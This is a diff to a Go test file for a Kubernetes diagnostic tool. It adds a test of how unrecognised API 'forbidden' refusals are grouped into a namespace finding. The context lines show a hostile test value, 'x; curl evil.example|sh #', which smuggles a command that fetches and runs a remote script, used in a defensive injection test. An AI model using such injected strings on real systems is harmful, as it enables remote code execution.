@@ -270,6 +270,19 @@ func TestCluster_Remedies(t *testing.T) {
 	}
 }
 
+// Refusals in words that are not known are one finding of their namespace.
+func TestJudge_UnknownRefusal(t *testing.T) {
+	const message = `pods "x" is forbidden: pod node label selector conflicts with its namespace node label selector`
+	list := Judge(&Seen{Refused: []Refusal{{Write: "create pods", Message: message}, {Write: "create secrets", Message: "is forbidden: no"}}})
+	const next = "kubectl -n kube-system get events --field-selector type=Warning"
+	if len(list) != 1 || list[0].Object != "Namespace/kube-system" || list[0].Next != next || !strings.Contains(list[0].Message, "create secrets") {
+		t.Errorf("got %+v", list)
+	}
+	if object, next := Refuser("x", message); object != "" || next != "" {
+		t.Errorf("got %s %s", object, next)
+	}
+}
+
 // TestJudge_Hostile: what a snapshot or an API server says never becomes a part of a command.
 func TestJudge_Hostile(t *testing.T) {
 	const evil = "x; curl evil.example|sh #"
